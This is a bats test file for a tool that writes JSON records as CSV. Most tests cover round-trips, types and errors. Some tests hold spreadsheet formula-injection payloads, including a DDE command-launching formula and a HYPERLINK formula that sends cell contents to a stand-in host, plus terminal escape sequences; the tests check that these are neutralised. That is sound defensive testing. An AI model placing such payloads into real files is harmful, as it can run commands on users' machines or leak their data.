#!/usr/bin/env bats
# lq-csv --write turns records into CSV that a spreadsheet opens without
# running or losing anything, and that lq-csv reads back as the same records.

load lib

setup() { lq_setup; }

CORPUS=$BATS_TEST_DIRNAME/corpus

@test "the columns are the first record's members; an absent member is an empty cell" {
    try 0 lq-csv --write <<'EOF'
{"order":"0012","state":"submitted","name":"张样","paid":true,"cents":2300}
{"order":"0013","name":"O\"Neil, 王","cents":-5}
{"paid":false,"order":"0014","state":"ready"}
EOF
    diff - <(echo "$output") <<'EOF'
order,state,name,paid,cents
0012,submitted,张样,true,2300
0013,,"O""Neil, 王",,-5
0014,ready,,false,
EOF
    [[ -z $stderr ]]
}

@test "--columns: paths with labels, amounts as 23.00, anything else as compact JSON" {
    try 0 lq-csv --write --columns \
        '/order,/state,/applicant/name=姓名,payment.amount_cents:money=金额,uploads,order:json=j' <<'EOF'
{"order":"A1","applicant":{"name":"张样"},"payment":{"amount_cents":2300},"uploads":[ {"what": "a b"} , 1 ],"state":"ready"}
{"order":"A2","payment":{"amount_cents":5}}
EOF
    diff - <(echo "$output") <<'EOF'
order,state,姓名,金额,uploads,j
A1,ready,张样,23.00,"[{""what"":""a b""},1]","""A1"""
A2,,,0.05,,"""A2"""
EOF
}

@test "the demo's export: CSV, records, CSV, records: nothing is lost on the way" {
    local map=$LQ_ROOT/share/demo/export.map.json
    lq-csv --map "$map" "$LQ_ROOT/share/demo/export.csv" >one.jsonl
    lq-csv --write --map "$map" --columns /csv/备注 one.jsonl >two.csv
    lq-csv --map "$map" two.csv >two.jsonl
    cmp one.jsonl two.jsonl
    lq-csv --write --map "$map" --columns /csv/备注 two.jsonl >three.csv
    cmp two.csv three.csv
    # the cells are those of the first file, but for 是 and 否
    cat >cells.py <<'EOF'
import csv, sys
words = {'是': 'true', '否': 'false'}
for row in csv.reader(open(sys.argv[1], newline='', encoding='utf-8-sig')):
    print([words.get(cell, cell) for cell in row])
EOF
    lq-csv --write --no-guard --map "$map" --columns /csv/备注 one.jsonl >plain.csv
    diff <(python3 cells.py "$LQ_ROOT/share/demo/export.csv") <(python3 cells.py plain.csv)
}

@test "every nasty file that is read is written and read again as the same records" {
    local csv name columns count=0
    for csv in "$CORPUS"/csv/*.jsonl; do
        name=$(basename "$csv" .jsonl)
        # all members as columns, whichever record has them first
        columns=$(jq -rs 'map(keys_unsorted) | add | unique | map(select(test("[,=:]") | not))
            | join(",")' "$csv")
        [[ -n $columns ]] || continue
        echo "-- $name: $columns"
        lq-csv --write --columns "$columns" "$csv" >"$name.csv"
        lq-csv "$name.csv" >again
        cmp <(jq -cS . "$csv") <(jq -cS . again)
        count=$((count + 1))
    done
    [[ $count -ge 14 ]]
}

@test "each type comes back: money, whole numbers, decimals as written, booleans" {
    cat >map.json <<'EOF'
[{"column":"单号","at":"/order"},{"column":"金额","at":"/p/cents","type":"money"},
 {"column":"次","at":"/n","type":"int"},{"column":"宽","at":"/w","type":"decimal"},
 {"column":"签","at":"/s","type":"bool"},{"column":"a","at":"/u/0/what"},{"column":"b","at":"/u/1/what"}]
EOF
    cat >in.jsonl <<'EOF'
{"order":"0012","p":{"cents":2305},"n":3,"w":9.50,"s":true,"u":[{"what":"x"},{"what":"y"}]}
{"order":"007","p":{"cents":-5},"n":-12,"w":12,"s":false}
EOF
    try 0 lq-csv --write --map map.json in.jsonl
    diff - <(echo "$output") <<'EOF'
单号,金额,次,宽,签,a,b
0012,23.05,3,9.50,true,x,y
007,-0.05,-12,12,false,,
EOF
    lq-csv --map map.json <<<"$output" | cmp - in.jsonl
}

@test "a value that isn't of its column's type rejects the record, not the file" {
    wrong() { # TYPE VALUE REASON
        echo "[{\"column\":\"v\",\"at\":\"/v\",\"type\":\"$1\"}]" >map.json
        printf '{"v":%s}\n{}\n' "$2" >in.jsonl
        try 3 lq-csv --write --map map.json in.jsonl
        [[ $output == $'v\n""' ]]
        [[ ${stderr_lines[0]} == "lq-csv: in.jsonl:1:6: v: $3" ]]
    }
    wrong money 23.5 "not an integer of cents"
    wrong money '"23.00"' "not an integer of cents"
    wrong int 1.0 "not an integer"
    wrong int 1e2 "not an integer"
    wrong bool '"yes"' "not true or false"
    wrong decimal 1e3 "not a number without exponent"
    wrong decimal '"9"' "not a number without exponent"
}

# What a spreadsheet runs or rewrites, also behind blanks and apostrophes: a
# record for each.
formulas() {
    jq -cn '"=1+1", "+8613800000000", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x",
        "\t=1", "\rx", "\n=x", "\t", " =1", "\u3000=1", "\u00a0+1", "\ufeff=1",
        "=cmd|'\'' /C calc'\''!A0", "=\"00123\"", "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
        "'\''=1", "'\'\''=1", "'\'' =1" | {order: "A1", note: .}'
}

@test "what a spreadsheet would run stands behind an apostrophe, and comes back without" {
    formulas >in.jsonl
    [[ $(wc -l <in.jsonl) -eq 22 ]]
    try 0 lq-csv --write in.jsonl
    lq-csv --write in.jsonl >out.csv
    lq-csv out.csv | cmp - in.jsonl
    # whoever reads CSV otherwise finds the apostrophe first in each cell
    cat >check.py <<'EOF'
import csv
rows = list(csv.reader(open("out.csv", newline="", encoding="utf-8")))
assert len(rows) == 23 and all(r[1].startswith("'") for r in rows[1:]), rows
EOF
    python3 check.py
}

@test "what isn't dangerous is left alone, apostrophes and negative numbers too" {
    cat >in.jsonl <<'EOF'
{"a":"O'Neil","b":"'quoted'","c":"'","d":-23,"e":"1-2","f":"a=b","g":"张＝王","h":"x@example.org"}
EOF
    try 0 lq-csv --write in.jsonl
    [[ ${lines[1]} == "O'Neil,'quoted',',-23,1-2,a=b,张＝王,x@example.org" ]]
}

@test "a member's name is as hostile as its value" {
    printf '{"=1+1":"x","a,b":"y","\\u001b[2J":"z"}\n' >in.jsonl
    try 0 lq-csv --write in.jsonl
    [[ ${lines[0]} == "'=1+1,\"a,b\","$'\033[2J' ]]
    lq-csv <<<"$output" | cmp - in.jsonl
}

@test "--no-guard writes and reads cells as they are" {
    formulas | jq -c '{note}' >in.jsonl
    lq-csv --write --no-guard in.jsonl >out.csv
    [[ $(sed -n 3p out.csv) == '+8613800000000' ]]
    lq-csv --no-guard out.csv | cmp - in.jsonl
    printf "note\n'=1\n" >foreign.csv
    [[ $(lq-csv --no-guard foreign.csv) == "{\"note\":\"'=1\"}" ]]
    [[ $(lq-csv foreign.csv) == "{\"note\":\"=1\"}" ]]
}

@test "--excel-text keeps zeros and long numbers, nothing else, and is read back" {
    cat >in.jsonl <<'EOF'
{"a":"00123","b":"9405590000000110000037","c":"12345678901","d":"0","e":"E00001200","f":2300,"g":"60616"}
EOF
    try 0 lq-csv --write --excel-text in.jsonl
    [[ ${lines[1]} == '"=""00123""","=""9405590000000110000037""",12345678901,0,E00001200,2300,60616' ]]
    [[ $(lq-csv <<<"$output" | jq -r '.a + " " + .b') == "00123 9405590000000110000037" ]]
}

@test "--bom and --crlf: the bytes Excel wants, once, whatever the number of files" {
    printf '{"a":"1"}\n' >one.jsonl
    printf '{"a":"two\\nlines"}\n' >two.jsonl
    lq-csv --write --bom --crlf one.jsonl two.jsonl >out.csv
    printf '\357\273\277a\r\n1\r\n"two\nlines"\r\n' | cmp - out.csv
    [[ $(lq-csv out.csv | jq -rs '.[1].a') == $'two\nlines' ]]
}

@test "blanks, empty rows and a byte order mark in the text survive" {
    printf '{"a":" x ","b":"\\ty"}\n{"a":"z\\t","b":"\357\273\277q"}\n' >in.jsonl
    lq-csv --write in.jsonl >out.csv
    lq-csv out.csv | cmp - in.jsonl
    printf '{"\357\273\277a":"1"}\n' >in.jsonl
    lq-csv --write in.jsonl >out.csv
    lq-csv out.csv | cmp - in.jsonl
    # one column without a value is a row all the same
    try 0 lq-csv --write --columns a <<<'{"b":1}'
    [[ $output == $'a\n""' ]]
}

@test "what no column takes is said once, and --strict refuses it" {
    cat >in.jsonl <<'EOF'
{"order":"A1","applicant":{"name":"x"}}
{"order":"A2","version":3,"applicant":{}}
{"order":"A3","version":4}
EOF
    try 0 lq-csv --write in.jsonl
    [[ ${#lines[@]} -eq 4 ]]
    diff - <(echo "$stderr") <<'EOF'
lq-csv: in.jsonl:1: applicant is left out: no column takes it
lq-csv: in.jsonl:2: version is left out: no column takes it
EOF
    try 3 lq-csv --write --strict in.jsonl
    [[ $output == order ]]
    [[ ${stderr_lines[0]} == "lq-csv: in.jsonl:1:27: applicant: no column takes it" ]]
    # the same within a map's objects and behind its last element
    echo '[{"column":"o","at":"/a/o"},{"column":"u","at":"/u/0"}]' >map.json
    try 0 lq-csv --write --map map.json <<<'{"a":{"o":"1","p":2},"u":["x","y"]}'
    [[ ${stderr_lines[*]} == *"a.p is left out"*"u[1] is left out"* ]]
    # columns that somebody chose leave out what he wanted left out
    try 0 lq-csv --write --columns order in.jsonl
    [[ -z $stderr ]]
}

@test "a hostile stream of ever new members can't fill the terminal" {
    jq -cn '{a: 1}, (range(100) | {a: 1, "m\(.)": 2})' >in.jsonl
    try 0 lq-csv --write in.jsonl
    [[ ${#lines[@]} -eq 102 ]]
    [[ ${#stderr_lines[@]} -eq 21 && ${stderr_lines[20]} == *"more members are left out"* ]]
}

@test "records go to rejects as they came; in = out + rejected" {
    printf '{"a":"1"}\n{"a":\n[]\n{"a":"2"}\n' >in.jsonl
    try 3 lq-csv --write --rejects bad.jsonl in.jsonl
    [[ $output == $'a\n1\n2' ]]
    cmp <(sed -n 2,3p in.jsonl) bad.jsonl
    [[ ${stderr_lines[-1]} == "lq-csv: 2 of 4 records rejected" ]]
}

@test "no records: the header where the columns are known, else nothing" {
    try 0 lq-csv --write --columns a=甲,b </dev/null
    [[ $output == "甲,b" ]]
    try 0 lq-csv --write </dev/null
    [[ -z $output ]]
    try 3 lq-csv --write <<<'{}'
    [[ ${stderr_lines[0]} == *"no member that could be a column" ]]
    # only objects: then they are the columns
    try 0 lq-csv --write <<<'{"a":{"b":1}}'
    [[ $output == $'a\n"{""b"":1}"' ]]
}

@test "options that don't go together, and lists that are none, are usage errors" {
    refused() {
        try 2 lq-csv "$@" </dev/null
        [[ ${#stderr_lines[@]} -eq 2 && -z $output ]]
    }
    refused --bom
    refused --crlf
    refused --excel-text
    refused --columns a
    refused --write --encoding utf-8
    refused --write --group packet
    refused --write --columns a,,b
    refused --write --columns a=x,b=x
    refused --write --columns a=
    refused --write --columns a:euro
    echo '[]' >map.json
    refused --write --map map.json
    echo '[{"column":"a","at":"/a"}]' >map.json
    refused --write --map map.json --columns b.c
    refused --write --map map.json --columns /a=b
}

@test "a row comes out when its record went in; a full device is status 5" {
    mkfifo pipe
    lq-csv --write pipe >out.csv &
    local pid=$!
    exec 9<>pipe
    printf '{"a":"1"}\n' >&9
    for _ in {1..300}; do
        [[ ! -s out.csv ]] || break
        sleep 0.1
    done
    [[ $(<out.csv) == $'a\n1' ]]
    exec 9>&-
    wait "$pid"
    try 5 bash -c 'echo "{\"a\":1}" | lq-csv --write >/dev/full'
}

@test "on a terminal, what an applicant wrote can't drive it; in a file it is as it was" {
    command -v script >/dev/null || skip "script(1) is not here"
    printf '{"a":"\\u001b[2Jx\\u202e","b":["\302\233"]}\n' >in.jsonl
    output=$(script -qec "lq-csv --write --columns a,b in.jsonl" /dev/null </dev/null | tr -d '\r')
    [[ $output == $'a,b\n\\x1b[2Jx\\u202e,"[""\\u009b""]"' ]]
    lq-csv --write in.jsonl 2>/dev/null | grep -qF $'\033[2Jx'
}

@test "Python's csv module reads what is written: the same cells" {
    cat >make.py <<'EOF'
import json, random
random.seed(20210607)
awkward = ['a', '1', '"', ',', '\n', '\r\n', '\r', ' ', '\t', '张', '𠮷', "'", '=', '-', '\x1b', '＋']
for n in range(400):
    print(json.dumps({'h%d' % i: ''.join(random.choices(awkward, k=random.randint(0, 8)))
                      for i in range(4)}, ensure_ascii=False))
EOF
    cat >check.py <<'EOF'
import csv, json
want = [json.loads(line) for line in open('in.jsonl', encoding='utf-8')]
rows = list(csv.reader(open('plain.csv', newline='', encoding='utf-8'), strict=True))
assert rows[0] == ['h0', 'h1', 'h2', 'h3']
assert [dict(zip(rows[0], r)) for r in rows[1:]] == want
EOF
    python3 make.py >in.jsonl
    lq-csv --write --no-guard in.jsonl >plain.csv
    python3 check.py
    # and with the guard, our own reader
    lq-csv --write in.jsonl | lq-csv >again.jsonl
    cmp <(jq -c 'with_entries(select(.value != "")) | select(. != {})' in.jsonl) \
        <(jq -c . again.jsonl)
}
